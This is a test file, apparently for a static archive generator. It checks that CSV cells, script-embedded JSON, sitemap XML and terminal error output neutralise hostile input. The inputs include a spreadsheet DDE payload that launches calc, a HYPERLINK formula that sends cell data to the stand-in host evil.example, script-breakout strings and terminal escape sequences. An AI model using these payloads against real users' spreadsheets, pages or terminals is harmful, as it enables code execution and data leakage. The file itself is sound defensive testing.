/** Data that leaves the archive: what a record holds stays text in spreadsheets, scripts, XML and terminals. */
import { runInNewContext } from 'node:vm'
import { expect, test } from 'vitest'
import { buildArchive } from '../../src/archive/archive.ts'
import { csvCell } from '../../src/formats/csv.ts'
import { writeDownloads } from '../../src/formats/downloads.ts'
import { scriptJson } from '../../src/formats/script-json.ts'
import { sitemapFile } from '../../src/output/emit/sitemap.ts'
import { sha256 } from '../../src/records/hash.ts'
import { formatProblems } from '../../src/records/problem.ts'
import { readContent } from '../../src/records/read.ts'
import { replacing, withSmallArchive } from './small-archive.ts'
import type { Edit } from './small-archive.ts'

const archiveOf = (...edits: Edit[]) =>
  withSmallArchive(edits, (content) => buildArchive(readContent(content).records, { hash: sha256 }))

test.each([
  ['Anna Berg opens the harbour', 'Anna Berg opens the harbour'],
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("https://evil.example","a")', `"'=HYPERLINK(""https://evil.example"",""a"")"`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+1', "'+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['＝1+1', "'＝1+1"],
  ['  =1+1', "'  =1+1"],
  ['\t=1+1', "'\t=1+1"],
  ['\ra', `"'\ra"`],
  ['\na', `"'\na"`],
  ['a=b', 'a=b'],
  ['[..2016]', '[..2016]'],
  ['2021-07-12', '2021-07-12'],
  ['a, b', '"a, b"'],
  ['a "b" c', '"a ""b"" c"'],
  ['a\r\nb', '"a\r\nb"'],
  ['', ''],
])('the cell %j is written %j', (text, cell) => {
  expect(csvCell([text])).toBe(cell)
})

test('a title that is a formula is text in the table, and itself in JSON', () => {
  const title = '=HYPERLINK("https://evil.example?" & A1, "</script><!--")'
  const archive = archiveOf([
    'events/harbour-opening.md',
    replacing('title: Anna Berg opens the harbour of Haven', `title: '${title}'`),
  ])
  const files = writeDownloads(archive, { hash: sha256 })
  const textOf = (name: string) => files.find((file) => file.name === name)?.text ?? ''
  expect(textOf('events.csv')).toContain(
    `,"'=HYPERLINK(""https://evil.example?"" & A1, ""</script><!--"")",`,
  )
  const { events } = JSON.parse(textOf('events.json')) as { events: { title: string }[] }
  expect(events.at(-1)!.title).toBe(title)
})

test.each([
  '</script><script>alert(1)</script>',
  '<!-- <script>',
  ']]>',
  'a\u2028b\u2029c',
  '`${alert(1)}` "\'\\',
  '\ud800',
])('%j stays text in a script', (text) => {
  const script = scriptJson({ text, [text]: [text] })
  expect(script).not.toMatch(/<|\u2028|\u2029/)
  expect(JSON.parse(script)).toEqual({ text, [text]: [text] })
  expect(runInNewContext(`JSON.stringify(${script})`)).toBe(
    JSON.stringify({ text, [text]: [text] }),
  )
})

test('a sitemap is XML whatever the pages are called', () => {
  const pages = ['/', '/events/a&b/', `/events/<x>"'/`, '/events/ü/']
  const text = sitemapFile('https://example.org/a&b/', pages, () => undefined)
  const locations = text.match(/<loc>.*<\/loc>/g)
  expect(locations).toEqual([
    '<loc>https://example.org/a&amp;b/</loc>',
    '<loc>https://example.org/a&amp;b/events/a&amp;b/</loc>',
    `<loc>https://example.org/a&amp;b/events/%3Cx%3E%22'/</loc>`,
    '<loc>https://example.org/a&amp;b/events/%C3%BC/</loc>',
  ])
})

test('what a record holds does not steer the terminal that shows its faults', () => {
  const message = '`\u001b[2J\u001b]0;owned\u0007` \u202e\u009b31m\nnext line'
  const shown = formatProblems([
    { file: 'content/events/\u001b[A.md', line: 1, code: 'file-name', severity: 'error', message },
  ])
  expect(shown).toBe(
    'content/events/‹U+001B›[A.md:1  file-name\n' +
      '  `‹U+001B›[2J‹U+001B›]0;owned‹U+0007›` ‹U+202E›‹U+009B›31m\n' +
      '  next line',
  )
})
